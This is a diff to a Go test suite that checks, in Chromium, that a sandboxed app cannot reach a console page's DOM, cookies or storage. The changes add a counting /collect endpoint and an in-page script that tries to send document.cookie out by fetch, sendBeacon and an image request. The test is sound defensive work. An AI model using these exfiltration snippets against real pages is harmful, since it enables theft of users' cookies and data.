@@ -151,7 +151,7 @@ func upstreamServer(t *testing.T, w *world) (host string, caFile string) {
 }
 
 // consoleServer serves the console page on https://localhost:<port>; page is set later.
-func consoleServer(t *testing.T) (lis net.Listener, origin string, setPage func(string)) {
+func consoleServer(t *testing.T) (lis net.Listener, origin string, setPage func(string), collected func() int) {
 	t.Helper()
 	ca, err := devca.New("console CA", time.Hour)
 	require.NoError(t, err)
@@ -163,8 +163,18 @@ func consoleServer(t *testing.T) (lis net.Listener, origin string, setPage func(
 	require.NoError(t, err)
 	var mu sync.Mutex
 	page := ""
+	hits := 0
 	srv := &http.Server{
 		Handler: http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
+			if strings.HasPrefix(r.URL.Path, "/collect") {
+				// Where app A tries to send what it could read: any request here is a leak.
+				mu.Lock()
+				hits++
+				mu.Unlock()
+				rw.Header().Set("Access-Control-Allow-Origin", "*")
+				rw.WriteHeader(http.StatusNoContent)
+				return
+			}
 			mu.Lock()
 			p := page
 			mu.Unlock()
@@ -178,10 +188,14 @@ func consoleServer(t *testing.T) (lis net.Listener, origin string, setPage func(
 	go func() { _ = srv.ServeTLS(lis, "", "") }()
 	t.Cleanup(func() { _ = srv.Close() })
 	return lis, fmt.Sprintf("https://localhost:%d", lis.Addr().(*net.TCPAddr).Port), func(s string) {
-		mu.Lock()
-		defer mu.Unlock()
-		page = s
-	}
+			mu.Lock()
+			defer mu.Unlock()
+			page = s
+		}, func() int {
+			mu.Lock()
+			defer mu.Unlock()
+			return hits
+		}
 }
 
 // TestIsolationInABrowser is the sandbox's promise, checked in Chromium: a console page on the
@@ -195,7 +209,7 @@ func TestIsolationInABrowser(t *testing.T) {
 	}
 	ctx := browser(t)
 	w := &world{t: t}
-	consoleLis, consoleOrigin, setPage := consoleServer(t)
+	consoleLis, consoleOrigin, setPage, collected := consoleServer(t)
 	_ = consoleLis
 	w.console = consoleOrigin
 	upHost, upCA := upstreamServer(t, w)
@@ -264,7 +278,7 @@ func TestIsolationInABrowser(t *testing.T) {
 		Detail string `json:"detail"`
 	}
 	require.NoError(t, json.Unmarshal([]byte(report), &attempts))
-	want := []string{"console DOM", "console DOM via top", "console cookies", "console storage", "app B DOM", "app B storage",
+	want := []string{"exfiltrate with fetch", "exfiltrate with sendBeacon", "exfiltrate with an image", "console DOM", "console DOM via top", "console cookies", "console storage", "app B DOM", "app B storage",
 		"own cookie jar", "gateway API with credentials", "gateway API no-cors", "app B proxy", "app B proxy no-cors",
 		"navigate the console", "own proxy"}
 	var got []string
@@ -278,6 +292,7 @@ func TestIsolationInABrowser(t *testing.T) {
 		require.False(t, a.Leaked, "%s succeeded from inside app A: %s", a.Name, a.Detail)
 	}
 	require.ElementsMatch(t, want, got)
+	require.Zero(t, collected(), "app A sent nothing to another site")
 	require.NotContains(t, report, keyA, "the page never sees the key")
 	require.NotContains(t, report, keyB)
 	require.NotContains(t, report, "CONSOLE-", "nothing of the console")
@@ -369,6 +384,14 @@ function rec(name, leaked, detail) { attempts.push({name, leaked, detail: String
 function trySync(name, fn) { try { rec(name, true, fn()); } catch (e) { rec(name, false, e.name); } }
 async function tryAsync(name, fn) { try { rec(name, true, await fn()); } catch (e) { rec(name, false, e.name + ": " + e.message); } }
 async function run() {
+  await tryAsync("exfiltrate with fetch", async () => {
+    const r = await fetch("{{CONSOLE}}/collect?via=fetch", {method: "POST", mode: "no-cors", body: document.cookie}); return "sent: " + r.type; });
+  // sendBeacon answers before the browser applies the policy: the console server's count of
+  // what reached it is the verdict for this one.
+  rec("exfiltrate with sendBeacon", false, "queued: " + navigator.sendBeacon("{{CONSOLE}}/collect?via=beacon", "x"));
+  await tryAsync("exfiltrate with an image", () => new Promise((ok, fail) => {
+    const img = new Image(); img.onload = () => ok("loaded"); img.onerror = () => fail(new Error("blocked"));
+    img.src = "{{CONSOLE}}/collect?via=image"; }));
   trySync("console DOM", () => parent.document.getElementById("secret").textContent);
   trySync("console DOM via top", () => top.document.body.innerHTML);
   trySync("console cookies", () => parent.document.cookie);
